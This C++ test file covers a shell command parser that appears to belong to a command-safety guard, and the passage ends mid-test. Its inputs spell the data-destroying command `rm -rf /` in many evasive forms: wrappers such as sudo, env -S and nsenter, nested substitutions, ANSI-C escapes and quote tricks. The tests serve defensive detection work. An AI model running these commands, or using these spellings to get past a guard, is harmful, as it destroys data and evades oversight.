// Tests for the shell command-line parser (bindings/shell_parser.h): lists, quoting, wrappers,
// nested shells, redirections, control structures, dynamic detection, limits and hostile input.
#include <catch2/catch.hpp>

#include <algorithm>
#include <chrono>
#include <random>
#include <set>
#include <sstream>
#include <string>
#include <tuple>
#include <vector>

#include "bindings/shell_parser.h"

using warden::shell::Limits;
using warden::shell::parse;
using warden::shell::ParseResult;
using warden::shell::SimpleCommand;
using V = std::vector<std::string>;

namespace {

std::string dump(const ParseResult& r) {
  std::ostringstream o;
  o << "ok=" << r.ok << " error=" << r.error << "\n";
  for (const SimpleCommand& c : r.commands) {
    o << "  program=" << c.program << " depth=" << c.depth << " dynamic=" << c.dynamic
      << " glob=" << c.glob << " expansion=" << c.expansion << " runtime=" << c.runtime_operands
      << " bg=" << c.background << " argv=[";
    for (const auto& a : c.argv) o << "<" << a << ">";
    o << "] flags=[";
    for (const auto& a : c.flags) o << a << " ";
    o << "] wrappers=[";
    for (const auto& a : c.wrappers) o << a << " ";
    o << "] redirects=[";
    for (const auto& d : c.redirects) o << d.fd << d.op << d.target << " ";
    o << "]\n";
  }
  return o.str();
}

ParseResult ok(std::string_view line, const Limits& limits = {}) {
  ParseResult r = parse(line, limits);
  INFO("input: " << line << "\n" << dump(r));
  REQUIRE(r.ok);
  REQUIRE(r.error.empty());
  return r;
}

SimpleCommand one(std::string_view line) {
  ParseResult r = ok(line);
  INFO("input: " << line << "\n" << dump(r));
  REQUIRE(r.commands.size() == 1);
  return r.commands[0];
}

// Lines whose wrapper is given an option or an operand of its own effect (a file, a
// directory, a program, code, a host): the wrapper's words stay a command of their own,
// before the command it wraps.
const std::set<std::string_view> kWrapperOwnWords = {
    "sudo -C 3 -D /tmp -p pw -r r -t t -U u -h host rm -rf /",
    "env -C /tmp rm -rf /",
    "env -S 'rm -rf /'",
    "env -S'rm -rf' /",
    "env --split-string='rm -rf /'",
    "env -S 'rm -rf' /",
    "env -S 'GIT_DIR=/x git status'",
    "/usr/bin/time -f %e -o log rm -rf /",
    "chroot /x rm -rf /",
    "chroot --userspec=a:b --groups g --skip-chdir /x rm -rf /",
    "nsenter -m/proc/1/ns/mnt --setuid 0 rm -rf /",
    "unshare --mount=/x -R /r -w /w rm -rf /",
    "flock --time 5 /l rm -rf /",
    "flock /tmp/l rm -rf /",
    "flock -n -w 5 /tmp/l rm -rf /",
    "flock -x -E 3 --timeout 1 /tmp/l rm -rf /",
    "env -S 'sh -c \"rm -rf /\"'",
    "unshare --wd /w rm -rf /",
    "su -s /bin/bash -g wheel -c 'rm -rf /' root",
    "flock /tmp/l -c 'rm -rf /'",
    "flock -n /tmp/l --command 'rm -rf /'",
    "parallel -a list rm -rf",
    "parallel --jobs 2 -k rm -rf {} :::: files",
    "parallel --tagstring x rm ::: a",  // a tag string may hold Perl code: {= … =}
};

// The command `line` wraps: its only command, or, for a line of kWrapperOwnWords, the one
// after the wrapper's own words.
SimpleCommand wrapped(std::string_view line) {
  ParseResult r = ok(line);
  INFO("input: " << line << "\n" << dump(r));
  if (!kWrapperOwnWords.count(line)) {
    REQUIRE(r.commands.size() == 1);
    return r.commands[0];
  }
  REQUIRE(r.commands.size() == 2);
  const V& around = r.commands[1].wrappers;
  CHECK(std::find(around.begin(), around.end(), r.commands[0].program) != around.end());
  CHECK(r.commands[0].argv.size() >= 2);
  CHECK(r.commands[0].wrappers.empty());
  return r.commands[1];
}

void fails(std::string_view line, const Limits& limits = {}) {
  ParseResult r = parse(line, limits);
  INFO("input: " << line << "\n" << dump(r));
  REQUIRE_FALSE(r.ok);
  REQUIRE_FALSE(r.error.empty());
}

V programs(const ParseResult& r) {
  V out;
  for (const auto& c : r.commands) out.push_back(c.program);
  return out;
}

// The canonical `rm -rf /` however it was spelled.
void is_rm_rf_root(const SimpleCommand& c) {
  CHECK(c.program == "rm");
  CHECK(c.flags == V{"-r", "-f"});
  CHECK(c.args == V{"/"});
}

}  // namespace

// ---------------------------------------------------------------- flags and argv

TEST_CASE("plain rm -rf /", "[shell]") {
  const SimpleCommand c = one("rm -rf /");
  is_rm_rf_root(c);
  CHECK(c.argv == V{"rm", "-rf", "/"});
  CHECK(c.wrappers.empty());
  CHECK(c.redirects.empty());
  CHECK(c.depth == 0);
  CHECK_FALSE(c.dynamic);
  CHECK_FALSE(c.background);
}

TEST_CASE("separate flags -r -f", "[shell]") {
  const SimpleCommand c = one("rm -r -f /");
  is_rm_rf_root(c);
  CHECK(c.argv == V{"rm", "-r", "-f", "/"});
}

TEST_CASE("flag order -fr", "[shell]") {
  const SimpleCommand c = one("rm -fr /");
  CHECK(c.flags == V{"-f", "-r"});
  CHECK(c.args == V{"/"});
}

TEST_CASE("double dash ends flags", "[shell]") {
  is_rm_rf_root(one("rm -rf -- /"));
  const SimpleCommand c = one("rm -- -rf");
  CHECK(c.flags.empty());
  CHECK(c.args == V{"-rf"});
  CHECK(c.argv == V{"rm", "--", "-rf"});
}

TEST_CASE("long flags are kept as written", "[shell]") {
  const SimpleCommand c = one("rm --force --no-preserve-root -R --output=x /");
  CHECK(c.flags == V{"--force", "--no-preserve-root", "-R", "--output=x"});
  CHECK(c.args == V{"/"});
}

TEST_CASE("numeric and mixed short flags stay whole", "[shell]") {
  CHECK(one("kill -9 1").flags == V{"-9"});
  CHECK(one("head -n10 f").flags == V{"-n10"});
  CHECK(one("cut -d, -f1").flags == V{"-d,", "-f1"});
  const SimpleCommand c = one("cat - x");
  CHECK(c.flags.empty());
  CHECK(c.args == V{"-", "x"});
}

TEST_CASE("option values are args", "[shell]") {
  const SimpleCommand c = one("curl -o out http://x");
  CHECK(c.flags == V{"-o"});
  CHECK(c.args == V{"out", "http://x"});
}

TEST_CASE("quoted flags are still flags", "[shell]") { is_rm_rf_root(one("rm \"-rf\" '/'")); }

TEST_CASE("tabs and extra blanks separate words", "[shell]") {
  is_rm_rf_root(one("  rm\t-rf \t /  "));
}

TEST_CASE("program is the basename", "[shell]") {
  const SimpleCommand c = one("/bin/rm -rf /");
  is_rm_rf_root(c);
  CHECK(c.argv[0] == "/bin/rm");
  is_rm_rf_root(one("/usr/bin/rm -rf /"));
  is_rm_rf_root(one("./rm -rf /"));
}

TEST_CASE("quote removal in the program name", "[shell]") {
  for (const char* line :
       {"\\rm -rf /", "\"rm\" -rf /", "r\"\"m -rf /", "r''m -rf /", "'r'm -rf /", "$'rm' -rf /",
        "$'\\x72m' -rf /", "$'\\162m' -rf /", "\"/bin/\"rm -rf /", "r\\m -rf /"}) {
    INFO(line);
    const SimpleCommand c = one(line);
    is_rm_rf_root(c);
    CHECK_FALSE(c.dynamic);
  }
}

// ---------------------------------------------------------------- lists

TEST_CASE("semicolon list", "[shell]") {
  const ParseResult r = ok("ls; rm -rf /");
  REQUIRE(r.commands.size() == 2);
  CHECK(r.commands[0].program == "ls");
  is_rm_rf_root(r.commands[1]);
}

TEST_CASE("and-or lists", "[shell]") {
  CHECK(programs(ok("ls && rm -rf /")) == V{"ls", "rm"});
  CHECK(programs(ok("false || rm -rf /")) == V{"false", "rm"});
  CHECK(programs(ok("a && b || c; d")) == V{"a", "b", "c", "d"});
  CHECK(programs(ok("a &&\n\n b")) == V{"a", "b"});
}

TEST_CASE("pipelines", "[shell]") {
  CHECK(programs(ok("ls | rm -rf /")) == V{"ls", "rm"});
  CHECK(programs(ok("ls |& grep x|wc -l")) == V{"ls", "grep", "wc"});
  CHECK(programs(ok("ls |\n grep x")) == V{"ls", "grep"});
}

TEST_CASE("newlines separate commands", "[shell]") {
  CHECK(programs(ok("ls\nrm -rf /\n\n  pwd\n")) == V{"ls", "rm", "pwd"});
}

TEST_CASE("background", "[shell]") {
  const ParseResult r = ok("sleep 1 & rm -rf /");
  REQUIRE(r.commands.size() == 2);
  CHECK(r.commands[0].background);
  CHECK_FALSE(r.commands[1].background);
  const ParseResult p = ok("a | b &");
  REQUIRE(p.commands.size() == 2);
  CHECK(p.commands[0].background);
  CHECK(p.commands[1].background);
}

TEST_CASE("subshell", "[shell]") {
  const SimpleCommand c = one("(rm -rf /)");
  is_rm_rf_root(c);
  CHECK(c.depth == 0);
  CHECK(programs(ok("(cd /; rm -rf *) && ls")) == V{"cd", "rm", "ls"});
  CHECK(programs(ok("( ( rm -rf / ) )")) == V{"rm"});
}

TEST_CASE("group", "[shell]") {
  is_rm_rf_root(one("{ rm -rf /; }"));
  CHECK(programs(ok("{ ls;rm -rf /;}")) == V{"ls", "rm"});
  CHECK(programs(ok("{\nls\n}")) == V{"ls"});
}

TEST_CASE("braces are plain words outside command position", "[shell]") {
  const SimpleCommand c = one("echo { }");
  CHECK(c.args == V{"{", "}"});
  CHECK(one("{ls").program == "{ls");
}

// ---------------------------------------------------------------- substitutions

TEST_CASE("command substitution", "[shell]") {
  const ParseResult r = ok("echo $(rm -rf /)");
  REQUIRE(r.commands.size() == 2);
  is_rm_rf_root(r.commands[0]);
  CHECK(r.commands[0].depth == 1);
  CHECK(r.commands[1].program == "echo");
  CHECK(r.commands[1].depth == 0);
  CHECK(r.commands[1].dynamic);
  CHECK(r.commands[1].args == V{"$(rm -rf /)"});
}

TEST_CASE("backquote substitution", "[shell]") {
  const ParseResult r = ok("echo `rm -rf /`");
  REQUIRE(r.commands.size() == 2);
  is_rm_rf_root(r.commands[0]);
  CHECK(r.commands[0].depth == 1);
  CHECK(r.commands[1].dynamic);
  CHECK(r.commands[1].args == V{"`rm -rf /`"});
}

TEST_CASE("substitutions inside double quotes", "[shell]") {
  const ParseResult r = ok("echo \"x $(rm -rf /) `id -u`\"");
  CHECK(programs(r) == V{"rm", "id", "echo"});
  CHECK(r.commands[0].depth == 1);
  CHECK(r.commands[1].depth == 1);
  CHECK(r.commands[2].dynamic);
}

TEST_CASE("nested substitutions", "[shell]") {
  const ParseResult r = ok("echo $(echo $(rm -rf /))");
  REQUIRE(r.commands.size() == 3);
  CHECK(r.commands[0].program == "rm");
  CHECK(r.commands[0].depth == 2);
  CHECK(r.commands[1].depth == 1);
  CHECK(r.commands[2].depth == 0);
  const ParseResult b = ok("echo `echo \\`rm -rf /\\``");
  REQUIRE(b.commands.size() == 3);
  CHECK(b.commands[0].program == "rm");
  CHECK(b.commands[0].depth == 2);
}

TEST_CASE("substitution with a case statement inside", "[shell]") {
  const ParseResult r = ok("echo $(case x in a) rm -rf /;; esac)");
  CHECK(programs(r) == V{"rm", "echo"});
  CHECK(r.commands[0].depth == 1);
}

TEST_CASE("process substitution", "[shell]") {
  const ParseResult r = ok("diff <(ls /a) >(cat)");
  REQUIRE(r.commands.size() == 3);
  CHECK(r.commands[0].program == "ls");
  CHECK(r.commands[0].depth == 1);
  CHECK(r.commands[1].program == "cat");
  CHECK(r.commands[2].program == "diff");
  CHECK(r.commands[2].dynamic);
  CHECK(r.commands[2].args == V{"<(ls /a)", ">(cat)"});
  CHECK(r.commands[2].redirects.empty());
}

TEST_CASE("arithmetic expansion is not a command", "[shell]") {
  const SimpleCommand c = one("echo $((1 + (2*3)))");
  CHECK(c.args == V{"$((1 + (2*3)))"});
  CHECK(c.dynamic);
  const ParseResult r = ok("echo $(( $(rm -rf /) + 1 ))");
  CHECK(programs(r) == V{"rm", "echo"});
}

TEST_CASE("$(( that is really a nested subshell", "[shell]") {
  const ParseResult r = ok("echo $((rm -rf /) )");
  CHECK(programs(r) == V{"rm", "echo"});
  CHECK(r.commands[0].depth == 1);
}

TEST_CASE("parameter expansion with a substitution inside", "[shell]") {
  const ParseResult r = ok("echo ${X:-$(rm -rf /)}");
  CHECK(programs(r) == V{"rm", "echo"});
  CHECK(r.commands[1].args == V{"${X:-$(rm -rf /)}"});
}

// ---------------------------------------------------------------- quoting

TEST_CASE("single and double quotes group words", "[shell]") {
  const SimpleCommand c = one("echo 'a b' \"c  d\" e\\ f");
  CHECK(c.args == V{"a b", "c  d", "e f"});
}

TEST_CASE("escapes inside double quotes", "[shell]") {
  const SimpleCommand c = one(R"(echo "a\"b" "x\\y" "\$HOME" "\`" "a\nb")");
  CHECK(c.args == V{"a\"b", "x\\y", "$HOME", "`", "a\\nb"});
  CHECK_FALSE(c.dynamic);
}

TEST_CASE("single quotes are literal", "[shell]") {
  const SimpleCommand c = one(R"(echo '$(rm -rf /)' 'a\' "b")");
  CHECK(c.args == V{"$(rm -rf /)", "a\\", "b"});
  CHECK_FALSE(c.dynamic);
}

TEST_CASE("ANSI-C quoting", "[shell]") {
  const SimpleCommand c = one(R"(echo $'a\tb\n' $'\x41\101\u00e9' $'it\'s' $'\\' $'\e')");
  CHECK(c.args == V{"a\tb\n", "AA\xC3\xA9", "it's", "\\", "\x1b"});
  CHECK_FALSE(c.dynamic);
}

TEST_CASE("ANSI-C NUL cuts the string like bash", "[shell]") {
  CHECK(one(R"($'rm\0xyz' -rf /)").program == "rm");
}

TEST_CASE("locale quoting", "[shell]") { CHECK(one("echo $\"hello $X\"").args == V{"hello $X"}); }

TEST_CASE("line continuation", "[shell]") {
  is_rm_rf_root(one("rm -r\\\nf /"));
  is_rm_rf_root(one("rm \\\n -rf \\\n /"));
  CHECK(one("echo \"a\\\nb\"").args == V{"ab"});
  CHECK(one("echo 'a\\\nb'").args == V{"a\\\nb"});
}

TEST_CASE("unterminated quotes and substitutions fail closed", "[shell]") {
  for (const char* line :
       {"echo 'abc", "echo \"abc", "echo $(ls", "echo `ls", "echo ${x", "(ls", "{ ls;",
        "if true; then ls", "echo $'abc", "case x in a) ls;;", "while true; do ls", "echo \"$(ls\"",
        "diff <(ls", "[[ -f x", "f() { ls;", "echo $((1+2"}) {
    INFO(line);
    fails(line);
  }
}

TEST_CASE("syntax errors fail closed", "[shell]") {
  for (const char* line : {"fi", ")", ";;", "ls ;; ls", "; ls", "ls &&", "| ls", "ls |",
                           "echo hi (", "ls >", "then ls", "a && && b"}) {
    INFO(line);
    fails(line);
  }
}

// ---------------------------------------------------------------- dynamic

TEST_CASE("variables are dynamic and kept literally", "[shell]") {
  const SimpleCommand c = one("rm -rf $HOME/x");
  CHECK(c.args == V{"$HOME/x"});
  CHECK(c.dynamic);
  CHECK(one("rm -rf \"$DIR\"").dynamic);
  CHECK(one("rm -rf ${DIR}/").dynamic);
  CHECK(one("rm $1").dynamic);
  CHECK(one("$CMD -rf /").dynamic);
  const SimpleCommand q = one("rm -rf '$DIR'");
  CHECK_FALSE(q.dynamic);
  CHECK(q.args == V{"$DIR"});
}

TEST_CASE("unquoted globs are dynamic", "[shell]") {
  CHECK(one("rm *.txt").dynamic);
  CHECK(one("rm file?").dynamic);
  CHECK(one("rm [ab]").dynamic);
  CHECK_FALSE(one("rm '*.txt'").dynamic);
  CHECK_FALSE(one("rm \"*\"").dynamic);
  CHECK_FALSE(one("rm \\*").dynamic);
}

TEST_CASE("globs are flagged apart from expansions", "[shell][glob]") {
  for (const char* line : {"ls *.py", "rm file?", "cat [ab].txt", "ls src/**/x", "echo a*b"}) {
    INFO(line);
    const SimpleCommand c = one(line);
    CHECK(c.glob);
    CHECK_FALSE(c.expansion);
    CHECK(c.dynamic);  // kept: checks written against `dynamic` still see `rm -rf *`
    CHECK_FALSE(c.runtime_operands);
  }
  for (const char* line :
       {"rm $X", "rm \"${X}\"", "rm $1", "ls ~root", "rm /{a,b}", "rm $((1+1))", "X=$Y ls"}) {
    INFO(line);
    const SimpleCommand c = one(line);
    CHECK_FALSE(c.glob);
    CHECK(c.expansion);
    CHECK(c.dynamic);
  }
  for (const char* line : {"rm \"$(pwd)\"", "rm `pwd`"}) {
    INFO(line);
    const ParseResult r = ok(line);
    REQUIRE(r.commands.size() == 2);
    CHECK(r.commands[1].expansion);
    CHECK_FALSE(r.commands[1].glob);
  }
  const SimpleCommand both = one("rm -rf $DIR/*");
  CHECK(both.glob);
  CHECK(both.expansion);
  for (const char* line : {"ls '*.py'", "ls \"*\"", "ls \\*", "ls x", "echo '$X'", "ls a=*"}) {
    INFO(line);
    const SimpleCommand c = one(line);
    CHECK_FALSE(c.expansion);
    CHECK(c.glob == (std::string_view(line) == "ls a=*"));
    CHECK(c.dynamic == c.glob);
  }
  // `[` is a glob only when its bracket expression closes within the word.
  for (const char* line : {"ls [ab]", "ls [!a]x", "ls []a]", "ls x[0-9].txt", "ls [a'b']"}) {
    INFO(line);
    CHECK(one(line).glob);
  }
  for (const char* line : {"echo [", "echo a[b", "echo ]", "echo []", "echo '[ab]'"}) {
    INFO(line);
    CHECK_FALSE(one(line).glob);
    CHECK_FALSE(one(line).dynamic);
  }
  const ParseResult t = ok("[ -f x ] && ls");
  CHECK_FALSE(t.commands[0].glob);
  CHECK_FALSE(t.commands[0].dynamic);
  // A glob in a redirection target, or in a `bash -c` string, marks the commands it feeds.
  CHECK(one("ls > out*").glob);
  CHECK(one("bash -c 'ls *.py'").glob);
  CHECK_FALSE(one("bash -c 'ls *.py'").expansion);
}

TEST_CASE("tilde", "[shell]") {
  const SimpleCommand c = one("rm -rf ~/x ~");
  CHECK(c.args == V{"~/x", "~"});
  CHECK_FALSE(c.dynamic);
  CHECK(one("rm -rf ~root/x").dynamic);
  CHECK(one("cd ~+").dynamic);
  CHECK_FALSE(one("rm '~root'").dynamic);
}

TEST_CASE("brace expansion is dynamic", "[shell]") {
  CHECK(one("rm -rf /{etc,usr}").dynamic);
  CHECK(one("touch f{1..9}").dynamic);
  CHECK_FALSE(one("echo {} {x}").dynamic);
  const ParseResult r = ok("find . -exec rm {} ;");
  REQUIRE(r.commands.size() == 2);
  CHECK_FALSE(r.commands[0].dynamic);
  CHECK_FALSE(r.commands[1].expansion);  // dynamic only for its run-time operands
}

TEST_CASE("a lone dollar is literal", "[shell]") {
  const SimpleCommand c = one("echo $ a$");
  CHECK(c.args == V{"$", "a$"});
  CHECK_FALSE(c.dynamic);
}

// ---------------------------------------------------------------- assignments

TEST_CASE("leading assignments are not argv", "[shell]") {
  const SimpleCommand c = one("FOO=bar X+=1 A[1]=2 rm x");
  CHECK(c.program == "rm");
  CHECK(c.argv == V{"rm", "x"});
  CHECK_FALSE(c.dynamic);
  CHECK(one("echo FOO=bar").args == V{"FOO=bar"});
  CHECK(one("\"FOO\"=bar").program == "FOO=bar");
}

TEST_CASE("assignment-only commands are visible, with their substitutions", "[shell][assign]") {
  const SimpleCommand a = one("FOO=bar");
  CHECK(a.program.empty());
  CHECK(a.argv.empty());
  REQUIRE(a.assignments.size() == 1);
  CHECK(a.assignments[0].name == "FOO");
  CHECK(a.assignments[0].value == "bar");
  const ParseResult two = ok("FOO=bar; BAZ='x y'");
  REQUIRE(two.commands.size() == 2);
  CHECK(two.commands[1].assignments[0].name == "BAZ");
  CHECK(two.commands[1].assignments[0].value == "x y");
  const ParseResult r = ok("FOO=$(rm -rf /)");
  REQUIRE(r.commands.size() == 2);
  is_rm_rf_root(r.commands[0]);
  CHECK(r.commands[0].depth == 1);
  CHECK(r.commands[1].program.empty());
  CHECK(r.commands[1].dynamic);
  CHECK(r.commands[1].assignments[0].value == "$(rm -rf /)");
  CHECK(r.commands[1].assignments[0].dynamic);
}

TEST_CASE("dynamic assignment marks the command", "[shell]") { CHECK(one("PATH=$X rm y").dynamic); }

TEST_CASE("array assignment", "[shell]") {
  const SimpleCommand a = one("a=(1 2 'three')");
  REQUIRE(a.assignments.size() == 1);
  CHECK(a.assignments[0].name == "a");
  const ParseResult r = ok("a=(1 $(rm -rf /)) && ls");
  CHECK(programs(r) == V{"rm", "", "ls"});
  CHECK(r.commands[1].dynamic);
}

TEST_CASE("assignment with a redirect only", "[shell]") {
  const SimpleCommand c = one("FOO=bar > out");
  CHECK(c.program.empty());
  CHECK(c.argv.empty());
  REQUIRE(c.redirects.size() == 1);
  CHECK(c.redirects[0].target == "out");
}

// ---------------------------------------------------------------- wrappers

TEST_CASE("sudo", "[shell]") {
  const SimpleCommand c = one("sudo rm -rf /");
  is_rm_rf_root(c);
  CHECK(c.wrappers == V{"sudo"});
  CHECK(c.argv == V{"rm", "-rf", "/"});
}

TEST_CASE("sudo options with values", "[shell]") {
  for (const char* line :
       {"sudo -u root rm -rf /", "sudo -uroot rm -rf /", "sudo -E -H -u root -- rm -rf /",
        "sudo --user=root rm -rf /", "sudo --user root rm -rf /", "sudo -g wheel -n rm -rf /",
        "sudo -iu root rm -rf /", "sudo -C 3 -D /tmp -p pw -r r -t t -U u -h host rm -rf /",
        "sudo FOO=1 rm -rf /", "/usr/bin/sudo rm -rf /"}) {
    INFO(line);
    const SimpleCommand c = wrapped(line);
    is_rm_rf_root(c);
    CHECK(c.wrappers == V{"sudo"});
  }
}

TEST_CASE("sudo that does not run a command", "[shell]") {
  CHECK(one("sudo -l rm").program == "sudo");
  CHECK(one("sudo").program == "sudo");
  CHECK(one("sudo -u root").program == "sudo");
}

TEST_CASE("doas", "[shell]") {
  const SimpleCommand c = one("doas -u root rm -rf /");
  is_rm_rf_root(c);
  CHECK(c.wrappers == V{"doas"});
}

TEST_CASE("env", "[shell]") {
  for (const char* line :
       {"env -i rm -rf /", "env FOO=1 BAR=2 rm -rf /", "env -u HOME rm -rf /",
        "env -C /tmp rm -rf /", "env - rm -rf /", "env --unset=X rm -rf /", "env -i -- rm -rf /"}) {
    INFO(line);
    const SimpleCommand c = wrapped(line);
    is_rm_rf_root(c);
    CHECK(c.wrappers == V{"env"});
  }
  CHECK(one("env").program == "env");
}

TEST_CASE("env -S splits its string", "[shell]") {
  for (const char* line : {"env -S 'rm -rf /'", "env -S'rm -rf' /", "env --split-string='rm -rf /'",
                           "env -S 'rm -rf' /"}) {
    INFO(line);
    const SimpleCommand c = wrapped(line);
    is_rm_rf_root(c);
    CHECK(c.wrappers == V{"env"});
    CHECK(c.depth == 0);
  }
}

TEST_CASE("timeout", "[shell]") {
  for (const char* line : {"timeout 5 rm -rf /", "timeout -s KILL -k 1 5s rm -rf /",
                           "timeout --signal=KILL 5 rm -rf /", "timeout -sKILL 5 rm -rf /",
                           "timeout --preserve-status 1m rm -rf /"}) {
    INFO(line);
    const SimpleCommand c = one(line);
    is_rm_rf_root(c);
    CHECK(c.wrappers == V{"timeout"});
  }
}

TEST_CASE("nice and ionice", "[shell]") {
  for (const char* line : {"nice -n 10 rm -rf /", "nice -10 rm -rf /", "nice -n10 rm -rf /",
                           "nice --adjustment=5 rm -rf /", "nice rm -rf /"}) {
    INFO(line);
    const SimpleCommand c = one(line);
    is_rm_rf_root(c);
    CHECK(c.wrappers == V{"nice"});
  }
  for (const char* line :
       {"ionice -c 3 rm -rf /", "ionice -c3 -n7 rm -rf /", "ionice -t rm -rf /"}) {
    INFO(line);
    const SimpleCommand c = one(line);
    is_rm_rf_root(c);
    CHECK(c.wrappers == V{"ionice"});
  }
  CHECK(one("ionice -p 42").program == "ionice");
}

TEST_CASE("nohup, stdbuf, time", "[shell]") {
  const SimpleCommand n = one("nohup rm -rf / &");
  is_rm_rf_root(n);
  CHECK(n.wrappers == V{"nohup"});
  CHECK(n.background);
  CHECK(one("stdbuf -oL -e 0 -i 0 rm -rf /").wrappers == V{"stdbuf"});
  is_rm_rf_root(one("stdbuf -oL -e 0 rm -rf /"));
  const SimpleCommand t = one("time rm -rf /");
  is_rm_rf_root(t);
  CHECK(t.wrappers == V{"time"});
  CHECK(one("time -p rm -rf /").wrappers == V{"time"});
  CHECK(wrapped("/usr/bin/time -f %e -o log rm -rf /").wrappers == V{"time"});
}

TEST_CASE("time before a compound command", "[shell]") {
  CHECK(programs(ok("time { rm -rf /; }")) == V{"rm"});
  CHECK(programs(ok("! time ( ls )")) == V{"ls"});
}

TEST_CASE("xargs", "[shell]") {
  const ParseResult r = ok("xargs rm -rf < list");
  REQUIRE(r.commands.size() == 1);
  const SimpleCommand& c = r.commands[0];
  CHECK(c.program == "rm");
  CHECK(c.flags == V{"-r", "-f"});
  CHECK(c.args.empty());
  CHECK(c.wrappers == V{"xargs"});
  REQUIRE(c.redirects.size() == 1);
  CHECK(c.redirects[0].op == "<");
  CHECK(c.redirects[0].fd == 0);
  CHECK(c.redirects[0].target == "list");
}

TEST_CASE("find piped to xargs", "[shell]") {
  const ParseResult r = ok("find / | xargs rm -rf");
  REQUIRE(r.commands.size() == 2);
  CHECK(r.commands[0].program == "find");
  CHECK(r.commands[1].program == "rm");
  CHECK(r.commands[1].wrappers == V{"xargs"});
}

TEST_CASE("xargs options", "[shell]") {
  for (const char* line : {"xargs -0 -n 1 -P 4 -I {} rm -rf {}", "xargs -0r rm -rf",
                           "xargs -d '\\n' rm -rf", "xargs --max-args=1 rm -rf",
                           "xargs -i rm -rf {}", "xargs -eEOF rm", "xargs -L1 -s 100 rm"}) {
    INFO(line);
    const SimpleCommand c = one(line);
    CHECK(c.program == "rm");
    CHECK(c.wrappers == V{"xargs"});
  }
}

TEST_CASE("xargs without a command runs echo", "[shell]") {
  const SimpleCommand c = one("xargs -0");
  CHECK(c.program == "echo");
  CHECK(c.argv == V{"echo"});
  CHECK(c.wrappers == V{"xargs"});
}

TEST_CASE("command, exec, builtin", "[shell]") {
  const SimpleCommand c = one("command rm -rf /");
  is_rm_rf_root(c);
  CHECK(c.wrappers == V{"command"});
  CHECK(one("command -p rm -rf /").wrappers == V{"command"});
  const SimpleCommand v = one("command -v rm");
  CHECK(v.program == "command");
  CHECK(v.flags == V{"-v"});
  CHECK(v.args == V{"rm"});
  CHECK(one("command -V rm").program == "command");
  CHECK(one("exec rm -rf /").wrappers == V{"exec"});
  is_rm_rf_root(one("exec -a foo -c rm -rf /"));
  CHECK(one("builtin cd /").program == "cd");
  CHECK(one("builtin cd /").wrappers == V{"builtin"});
}

TEST_CASE("exec with only redirects", "[shell]") {
  const SimpleCommand c = one("exec > log 2>&1");
  CHECK(c.program == "exec");
  CHECK(c.wrappers.empty());
  REQUIRE(c.redirects.size() == 2);
}

TEST_CASE("nested wrappers", "[shell]") {
  const SimpleCommand c = one("sudo env FOO=1 timeout 5 nice -n 10 rm -rf /");
  is_rm_rf_root(c);
  CHECK(c.wrappers == V{"sudo", "env", "timeout", "nice"});
  CHECK(c.depth == 0);
  CHECK(c.argv == V{"rm", "-rf", "/"});
}

// ---------------------------------------------------------------- wrappers that run a command

namespace {

// Each (line, wrapper) runs `rm -rf /` through that one wrapper, with no shell in between.
void runs_rm_rf_root(const std::vector<std::pair<std::string, std::string>>& cases) {
  for (const auto& [line, wrapper] : cases) {
    INFO(line);
    const SimpleCommand c = wrapped(line);
    is_rm_rf_root(c);
    CHECK(c.argv == V{"rm", "-rf", "/"});
    CHECK(c.wrappers == V{wrapper});
    CHECK(c.depth == 0);
    CHECK_FALSE(c.dynamic);
  }
}

// Each (line, wrapper) runs `rm -rf /` through that wrapper and a shell reading a string.
void runs_rm_rf_root_in_shell(const std::vector<std::pair<std::string, V>>& cases) {
  for (const auto& [line, wrappers] : cases) {
    INFO(line);
    const SimpleCommand c = wrapped(line);
    is_rm_rf_root(c);
    CHECK(c.wrappers == wrappers);
    CHECK(c.depth == 1);
    CHECK_FALSE(c.dynamic);
  }
}

}  // namespace

TEST_CASE("chroot, pkexec, setsid, nsenter, unshare, chrt, taskset, runuser -u, flock, busybox",
          "[shell][wrap]") {
  runs_rm_rf_root({
      {"chroot /x rm -rf /", "chroot"},
      {"chroot --userspec=a:b --groups g --skip-chdir /x rm -rf /", "chroot"},
      {"pkexec rm -rf /", "pkexec"},
      {"pkexec --user root --disable-internal-agent rm -rf /", "pkexec"},
      {"setsid rm -rf /", "setsid"},
      {"setsid -f -w rm -rf /", "setsid"},
      {"setsid -c -- rm -rf /", "setsid"},
      {"nsenter -t 1 -m -u -i -n -p rm -rf /", "nsenter"},
      {"nsenter --target 1 --mount --uts rm -rf /", "nsenter"},
      {"nsenter -a -t1 -S 0 -G 0 rm -rf /", "nsenter"},
      {"nsenter -m/proc/1/ns/mnt --setuid 0 rm -rf /", "nsenter"},
      {"unshare -r rm -rf /", "unshare"},
      {"unshare -m -u --map-user 0 rm -rf /", "unshare"},
      {"unshare --mount=/x -R /r -w /w rm -rf /", "unshare"},
      {"unshare -fp --mount-proc rm -rf /", "unshare"},
      {"chrt -f 99 rm -rf /", "chrt"},
      {"chrt -o rm -rf /", "chrt"},
      {"chrt --batch 0 rm -rf /", "chrt"},
      {"chrt -d -T 5 -P 10 -D 8 0 rm -rf /", "chrt"},
      {"taskset -c 0 rm -rf /", "taskset"},
      {"taskset 0x3 rm -rf /", "taskset"},
      {"taskset -a -c 0-3 rm -rf /", "taskset"},
      {"runuser -u root -- rm -rf /", "runuser"},
      {"runuser -u root rm -rf /", "runuser"},
      {"runuser --user=app -g grp rm -rf /", "runuser"},
      {"flock /tmp/l rm -rf /", "flock"},
      {"flock -n -w 5 /tmp/l rm -rf /", "flock"},
      {"flock -x -E 3 --timeout 1 /tmp/l rm -rf /", "flock"},
      {"busybox rm -rf /", "busybox"},
      {"/bin/busybox rm -rf /", "busybox"},
      {"toybox rm -rf /", "toybox"},
      {"watch -x rm -rf /", "watch"},
      {"watch -n 1 --exec rm -rf /", "watch"},
  });
}

TEST_CASE("abbreviated long options of a wrapper are read like getopt does", "[shell][wrap]") {
  runs_rm_rf_root({{"timeout --sig KILL 5 rm -rf /", "timeout"},
                   {"timeout --kill 1 5 rm -rf /", "timeout"},
                   {"nice --adj 5 rm -rf /", "nice"},
                   {"sudo --us root rm -rf /", "sudo"},
                   {"flock --time 5 /l rm -rf /", "flock"},
                   {"watch --ex rm -rf /", "watch"},
                   {"nsenter --tar 1 --mount rm -rf /", "nsenter"}});
  // A flag whose name starts a value option's name is still a flag.
  runs_rm_rf_root({{"nsenter -t 1 --net rm -rf /", "nsenter"},
                   {"nsenter -t 1 --wd rm -rf /", "nsenter"},
                   {"unshare --wd /w rm -rf /", "unshare"}});
  const SimpleCommand p = one("parallel --tag --plus --ungroup rm -rf ::: a");
  CHECK(p.program == "rm");
